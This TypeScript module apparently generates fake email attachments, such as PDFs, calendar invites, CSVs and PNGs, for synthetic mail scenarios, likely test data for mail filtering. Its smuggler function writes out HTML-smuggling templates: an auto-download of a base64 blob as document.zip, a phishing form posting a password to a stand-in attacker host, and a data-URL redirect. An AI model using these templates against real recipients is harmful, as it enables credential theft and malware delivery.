import { deflateSync } from "node:zlib";
import type { Leaf } from "./message-writer.ts";
import type { Occasion } from "./occasion.ts";

/** An attachment of a scene: `pdf name`, `ics`, `csv name`, `png name`, `html name`, `shtml name`, `txt name`. */
export function attachment(wanted: string, occasion: Occasion): Leaf {
	const [type = "", ...rest] = wanted.split(" ");
	const name = occasion.text(rest.join(" ")).replace(/["\\/:]/g, "-");
	const shown = /^[\x20-\x7e]*$/.test(name) ? `"${name}"` : `"=?UTF-8?B?${Buffer.from(name).toString("base64")}?="`;
	const disposition = [["Content-Disposition", `attachment; filename=${shown}`]] as const;
	switch (type) {
		case "pdf":
			return {
				type: "application/pdf",
				parameters: `; name=${shown}`,
				content: pdf(`${occasion.brand.name} ${occasion.text("<order>")}`),
				fields: disposition,
			};
		case "ics":
			return { type: "text/calendar", parameters: "; method=REQUEST", content: calendar(occasion), fields: [] };
		case "csv":
			return {
				type: "text/csv",
				parameters: `; name=${shown}`,
				content: occasion.text("date,item,amount\n<shortdate-3>,<#5>,<n:10-99>.00\n<shortdate-1>,<#5>,<n:10-99>.50\n"),
				fields: disposition,
			};
		case "html":
			return { type: "text/html", parameters: `; name=${shown}`, content: smuggler(occasion), fields: disposition };
		case "png":
			return { type: "image/png", parameters: `; name=${shown}`, content: picture(occasion), fields: disposition };
		case "shtml":
			return {
				type: "application/octet-stream",
				parameters: `; name=${shown}`,
				content: new TextEncoder().encode(smuggler(occasion)),
				fields: disposition,
			};
		default:
			return { type: "text/plain", parameters: `; name=${shown}`, content: `${name}\n`, fields: disposition };
	}
}

/** A one-page PDF that says `line`. */
function pdf(line: string): Uint8Array {
	const shown = line.replace(/[^\x20-\x7e]/g, "?").replace(/[()\\]/g, "\\$&");
	const stream = `BT /F1 18 Tf 72 720 Td (${shown}) Tj ET`;
	const objects = [
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	];
	let text = "%PDF-1.4\n";
	const offsets = objects.map((object, index) => {
		const offset = text.length;
		text += `${index + 1} 0 obj\n${object}\nendobj\n`;
		return offset;
	});
	const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
	text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
	return new TextEncoder().encode(text);
}

function calendar(occasion: Occasion): string {
	const start = occasion.day
		.plus(occasion.random.integer(1, 12))
		.at.toISOString()
		.replace(/[-:]|\.\d+/g, "")
		.replace(/T\d+/, "T090000");
	return [
		"BEGIN:VCALENDAR",
		"PRODID:-//Google Inc//Google Calendar 70.9054//EN",
		"VERSION:2.0",
		"CALSCALE:GREGORIAN",
		"METHOD:REQUEST",
		"BEGIN:VEVENT",
		`DTSTART:${start}`,
		`DTEND:${start.replace("T09", "T10")}`,
		`ORGANIZER;CN=${occasion.text("<other.full>")}:mailto:${occasion.text("<other.address>")}`,
		`UID:${occasion.text("<id:26>")}@google.com`,
		`SUMMARY:${occasion.text("<meeting>")}`,
		"STATUS:CONFIRMED",
		"END:VEVENT",
		"END:VCALENDAR",
		"",
	].join("\n");
}

/** A page that builds a download in the reader's browser, with nothing in it that does harm. */
function smuggler(occasion: Occasion): string {
	const payload = Buffer.from(occasion.text("placeholder payload <hex:400>")).toString("base64");
	const style = occasion.random.integer(0, 2);
	if (style === 0)
		return `<html><body><script>var d=atob("${payload}");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var b=new Blob([a],{type:"application/zip"});var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="document.zip";document.body.appendChild(l);l.click();</script></body></html>`;
	if (style === 1)
		return `<!DOCTYPE html><html><head><script>document.write(unescape(atob("${payload}")));</script></head><body onload="go()"><form action="https://${occasion.text("<hex:8>")}.invalid-host.example/p.php" method="post"><input type="email" value="${occasion.recipient.address}"><input type="password" name="pw"><input type="submit"></form></body></html>`;
	return `<html><head><meta http-equiv="refresh" content="0;url=data:text/html;base64,${payload}"></head><body>Loading document…</body></html>`;
}

function picture(occasion: Occasion): Uint8Array {
	const { random } = occasion;
	return png(random.integer(12, 40), random.integer(0, 255), random.integer(0, 255), random.integer(0, 255));
}

/** A small plain picture in PNG, `size` square, of one colour. */
function png(size: number, red: number, green: number, blue: number): Uint8Array {
	const raw = Buffer.alloc(size * (1 + size * 3));
	for (let y = 0; y < size; y++) {
		for (let x = 0; x < size; x++) raw.set([red, green, blue], y * (1 + size * 3) + 1 + x * 3);
	}
	const header = Buffer.alloc(13);
	header.writeUInt32BE(size, 0);
	header.writeUInt32BE(size, 4);
	header.set([8, 2, 0, 0, 0], 8);
	return Buffer.concat([
		Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
		chunk("IHDR", header),
		chunk("IDAT", deflateSync(raw, { level: 0 })),
		chunk("IEND", Buffer.alloc(0)),
	]);
}

function chunk(type: string, data: Buffer): Buffer {
	const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.length);
	const check = Buffer.alloc(4);
	check.writeUInt32BE(crc32(body));
	return Buffer.concat([length, body, check]);
}

function crc32(bytes: Buffer): number {
	let crc = ~0;
	for (const byte of bytes) {
		crc ^= byte;
		for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
	}
	return ~crc >>> 0;
}
